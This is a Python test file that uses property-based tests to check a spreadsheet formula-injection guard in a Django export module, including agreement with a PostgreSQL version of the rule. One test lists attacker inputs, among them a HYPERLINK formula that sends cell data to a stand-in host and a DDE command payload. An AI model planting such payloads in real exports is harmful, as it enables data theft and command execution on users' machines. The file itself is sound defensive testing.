"""The formula guard, for every string: nothing a spreadsheet would run, everything readable,
and the database's version of the rule agreeing with Python's."""

import pytest
from django.db import connection
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from exports import cells

DANGEROUS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
# What a cell may start with after the guard: anything but a formula start.
# What a database can store: no NUL, no lone surrogates.
text = st.text(st.characters(exclude_characters="\x00", exclude_categories=["Cs"]), max_size=40)
hostile = st.builds(
    lambda lead, prefix, rest: lead + prefix + rest,
    st.sampled_from(["", "'", "''", " ", "  ", "'\u00a0", "\u3000"]),
    st.sampled_from(DANGEROUS),
    text,
)


def _runs_as_formula(cell: str) -> bool:
    """What spreadsheets do with a cell's text: a formula if it starts with one of these
    (spaces skipped as some importers trim them); an apostrophe makes it text."""
    stripped = cell.lstrip(" \u00a0\u3000\t\r\n")
    return bool(cell) and (cell[0] in "\t\r\n" or (stripped[:1] in DANGEROUS))


@given(st.one_of(text, hostile))
def test_no_guarded_cell_runs_as_a_formula(value):
    assert not _runs_as_formula(cells.quote(value))


@given(st.one_of(text, hostile))
def test_every_guarded_cell_reads_back_as_stored(value):
    assert cells.unquote(cells.quote(value)) == value


@pytest.mark.parametrize("prefix", DANGEROUS)
@given(rest=text)
def test_each_dangerous_prefix_gets_the_text_marker_and_keeps_the_value(prefix, rest):
    value = prefix + rest
    assert cells.quote(value) == "'" + value


@given(text.filter(lambda v: not _runs_as_formula(v) and not v.lstrip("'").startswith(" ")))
def test_ordinary_text_is_left_alone(value):
    # Names, codes and sentences are written as they are (a space- or apostrophe-led value
    # may be guarded: a leading quote must stay distinguishable from the marker).
    if not cells.needs_quote(value):
        assert cells.quote(value) == value
    assert not cells.needs_quote("Nguyễn Thị Minh Anh")
    assert cells.quote("CA-0042") == "CA-0042"
    assert cells.quote("'s-Hertogenbosch") == "'s-Hertogenbosch"


def test_the_examples_an_attacker_would_type():
    for value in [
        '=HYPERLINK("http://example.invalid/?"&A1,"Bấm")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "'=1+1",
        "＝1+1",
    ]:
        quoted = cells.quote(value)
        assert quoted.startswith("'"), value
        assert cells.unquote(quoted) == value


@pytest.mark.django_db
@settings(max_examples=300, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(value=st.one_of(text, hostile))
def test_postgresql_applies_the_same_rule(value):
    from exports.spreadsheet import _sql_text

    sql, params = _sql_text("t.v")
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT {sql} FROM (SELECT %s::text AS v) AS t", [*params, value])  # noqa: S608
        assert cursor.fetchone()[0] == cells.quote(value)
